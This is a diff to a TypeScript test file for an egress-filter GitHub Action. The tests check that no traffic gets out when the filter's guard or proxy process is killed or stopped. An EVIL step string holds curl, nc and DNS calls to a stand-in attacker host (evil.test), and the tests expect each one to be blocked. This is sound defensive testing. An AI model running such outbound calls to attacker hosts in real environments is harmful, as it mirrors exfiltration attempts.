@@ -1,7 +1,7 @@
 import { existsSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { asked, type Job, type JobResult, reached, startJob, WORLD } from '../runner/runner.ts';
-import { guardOf, pidsOf, proxyOf, statusOf, traces } from './guard-lab.ts';
+import { allEnded, guardOf, pidsOf, proxyOf, statusOf, traces } from './guard-lab.ts';
 
 const EVIL = `set +e
 curl -sSk --max-time 2 https://${WORLD.evil}/x; curl -sS --max-time 2 https://evil.test/x; echo x | timeout 1 nc -u -w1 ${WORLD.evil} 9999; timeout 2 getent ahosts x.evil.test`;
@@ -73,10 +73,13 @@ test('a proxy that is stopped answers nobody and lets nothing out; before long a
   const touch = (name: string): unknown => job.machine.inside(['touch', `/home/runner/work/repo/repo/${name}`]);
   try {
     await job.workspaceFile('begun');
-    const [pid = 0] = proxyOf(job.machine);
+    const pid = await job.machine.until('the proxy', () => proxyOf(job.machine)[0]);
+    await allEnded(job, WORLD.ok);
     process.kill(pid, 'SIGSTOP');
-    touch('stopped');
+    // What the runner has asked until now.
+    await job.lab.settle();
     const before = job.lab.marks();
+    touch('stopped');
     await job.workspaceFile('tried');
     const since = job.lab.since(before);
     for (const address of [WORLD.evil, WORLD.ok]) expect(reached(since, address)).toEqual([]);
@@ -96,18 +99,22 @@ describe('the guard is killed', () => {
     const job = await startJob({
       action: { with: { policy: 'ok.test' } },
       steps: [
+        // It is looked at, and what is mounted for that is taken away again: nothing else is forgotten with it.
+        { name: 'sudo', uses: 'owner/egress-filter/disable-sudo@v1' },
         { name: 'before', run: `${ALLOWED}; touch begun; while [ ! -e killed ]; do sleep 0.05; done` },
         { name: 'after', run: `${EVIL}\ncurl -sS --max-time 2 https://ok.test/after; touch tried; sleep 30; true` },
       ],
     });
     try {
       await job.workspaceFile('begun');
-      const [guard = 0] = guardOf(job.machine);
+      const guard = await job.machine.until('the guard', () => guardOf(job.machine)[0]);
+      await allEnded(job, WORLD.ok);
       process.kill(guard, 'SIGKILL');
       await job.machine.until('the end of the proxy', () => (proxyOf(job.machine).length === 0 ? true : undefined));
-      job.machine.inside(['touch', '/home/runner/work/repo/repo/killed']);
-      // The runner itself is shut in as well: it hears nothing, so the steps go on alone.
+      await job.lab.settle();
       const before = job.lab.marks();
+      // The runner itself is shut in as well: it hears nothing, so the steps go on alone.
+      job.machine.inside(['touch', '/home/runner/work/repo/repo/killed']);
       await job.workspaceFile('tried');
       const since = job.lab.since(before);
       expect(reached(since, WORLD.evil)).toEqual([]);
